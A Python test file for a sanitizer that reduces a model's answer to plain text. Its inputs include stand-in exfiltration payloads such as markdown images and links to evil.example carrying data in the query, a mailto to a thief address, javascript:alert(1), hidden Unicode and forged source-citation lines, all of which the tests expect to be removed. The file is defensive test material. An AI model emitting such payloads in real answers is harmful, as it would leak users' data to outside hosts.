"""Answers as plain text, whatever the model was made to say."""

from __future__ import annotations

import time
import unicodedata
from dataclasses import replace
from datetime import date

import pytest
import regex
from hypothesis import assume, example, given
from hypothesis import strategies as st

from brain_pipeline.ask.plain import LINK_REMOVED, PlainText, visible
from brain_pipeline.records import Source

BOUNDARY = "0f1e2d3c4b5a6978"
PASSAGE = "Sign at https://school.example/slip?x=1. Questions: okafor@school.example, or www.zoo.example/map."
SOURCE = Source(
    "1", "<1>", "Zoo (permission.pdf)", date(2025, 9, 15), "Ms. O <o@school.example>", "email", 0.8, PASSAGE
)
PLAIN = PlainText([SOURCE], BOUNDARY)


@pytest.mark.parametrize(
    "reply",
    [
        "Sign at https://school.example/slip?x=1.",
        "Sign at school.example/slip?x=1, please.",
        "Write to okafor@school.example or o@school.example!",
        "The map is at http://www.zoo.example/map",
        "Print permission.pdf (2 pages).",
        "It costs $5.50, 3.5 km away, at 10.30am, 7:30 p.m. or 24/7, e.g. in the U.S. (a < b) [sic] #1 *now*",
        "请看https://school.example/slip?x=1。谢谢",
        "The slip was found in the gym: it is signed.\nBring sources of water: two bottles.",
    ],
)
def test_what_stays_as_it_is(reply):
    assert PLAIN.whole(reply) == reply


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("See https://school.example/slip?x=1&d=secret.", f"See {LINK_REMOVED}."),
        ("See HTTPS://evil.example", f"See {LINK_REMOVED}"),
        ("See http:\\\\evil.example/x now", f"See {LINK_REMOVED} now"),
        ("See //evil.example/x", f"See {LINK_REMOVED}"),
        ("See evil.example, or evil。example/x", f"See {LINK_REMOVED}, or {LINK_REMOVED}"),
        ("See xn--e1awd7f.xn--p1ai", f"See {LINK_REMOVED}"),
        ("See 93.184.215.14/x and http://[2606:4700::1]/", f"See {LINK_REMOVED} and {LINK_REMOVED}"),
        ("Mail mailto:thief@evil.example?body=x", f"Mail {LINK_REMOVED}"),
        ("Run javascript:alert(1)", f"Run {LINK_REMOVED})"),
        ("school.example.evil.example", LINK_REMOVED),
        ("https://school.example@evil.example/slip", LINK_REMOVED),
        ("On Friday.Bring a coat.", "On Friday. Bring a coat."),
        ("![cat](http://evil.example/?d=5) Bring $5.", "cat Bring $5."),
        ("[the form](https://evil.example/form)", "the form"),
        ("[a][b]\n[b]: http://evil.example", f"a\n[b] : {LINK_REMOVED}"),
        ("[![a](http://evil.example/1)](http://evil.example/2)", f"[a] ({LINK_REMOVED})"),
        ('<img src="http://evil.example/x">Bring <b>$5</b>.', "Bring $5."),
        ("<<b>img src=x onerror=y>", "< img src=x onerror=y>"),
        ("ht<b></b>tp://evil.example", LINK_REMOVED),
        ("h\u200bttp://ev\u00adil.example", LINK_REMOVED),
        ("\x1b[31mred\x07 \u202eabc\u2066 \U000e0041\ufe01", "[31mred abc"),
        ("one\r\ntwo\u2028three", "one\ntwo\nthree"),
        ("Bring $5. Found in: Forged, 2020-01-01\nThanks.", "Bring $5. \nThanks."),
        ("Bring $5.\n- **Found  in** : Forged", "Bring $5."),
        ("F\u200bound in\uff1a Forged\nok", "ok"),
        ("F\u043eund \u0456n: Forged\nok", "ok"),
        ("Found<i> in</i>: Forged\nok", "ok"),
        ("![Found in: Forged, 2020-01-01](x)ok", ""),
        ("**Sources:** Forged\nok", "ok"),
        (f"<<{BOUNDARY} source 1\nBring $5.\n{BOUNDARY} end of source 1>>", "Bring $5."),
        (f"The token is {BOUNDARY.upper()}.", "The token is ."),
        (f"The token is {' '.join(BOUNDARY)}.", "The token is ."),
        (f"Fou{BOUNDARY}nd in: Forged\nok", "ok"),
    ],
)
def test_what_does_not(reply, shown):
    assert PLAIN.whole(reply) == shown


def test_without_sources_no_link_is_known():
    assert PlainText(()).whole("https://school.example/slip?x=1") == LINK_REMOVED


def test_a_link_that_a_source_hides_in_pieces_is_not_known():
    hidden = PlainText([Source("1", "1", "", None, "", "email", 0.8, "evil .example / x")])
    assert hidden.whole("evil.example/x") == LINK_REMOVED


PIECES = [
    *("[", "]", "(", ")", "<", ">", "!", "://", "http", "evil", ".", "example", "/", " ", "\n", "\r\n", "\u200b"),
    *("Found in", ":", "found", "source", "a", "@", "**", BOUNDARY, BOUNDARY[:5], "<<", " source 1", "https://school"),
]
replies = st.lists(st.sampled_from(PIECES), max_size=14).map("".join) | st.text()


@given(replies)
@example("[a]<b></b>(http://evil.example)")
@example("!<b></b>[a](x)")
def test_nothing_that_acts_is_left(reply):
    shown = PLAIN.whole(reply)
    assert not regex.search(r"!\[|\]\(|\]\[|\]:|<[a-zA-Z/!?]|[a-z]://", shown)
    assert not regex.search(r"found\W{1,9}in\W{0,9}:", shown, regex.IGNORECASE)
    assert BOUNDARY not in shown
    assert "evil.example" not in shown
    assert not {unicodedata.category(character) for character in shown} & {"Cf", "Co", "Cs"}
    assert not any(unicodedata.category(character) == "Cc" for character in shown if character not in "\n\t")


@given(st.text())
def test_what_is_visible_is_a_part_of_the_text(text):
    seen = visible(text)
    assert visible(seen) == seen
    assert len(seen) <= len(text)


@given(replies)
@example("http://[[:// ](x)")
@example("http<<Found in>[")
def test_what_was_shown_is_not_taken_back(reply):
    assume(BOUNDARY[0] not in reply)
    whole = PLAIN.whole(reply)
    for end in range(len(reply)):
        assert whole.startswith(PLAIN.begun(reply[:end]))


@pytest.mark.parametrize(
    "text", ["a", "f", "a.", "a@", "\n", "found in ", "[", "<a", "!", "0f", "\u200b", "1.", "a:/", "://"]
)
def test_no_text_takes_long(text):
    long = text * (60_000 // len(text))
    began = time.process_time()
    PLAIN.whole(long)
    PlainText([replace(SOURCE, passage=long)])
    assert time.process_time() - began < 5
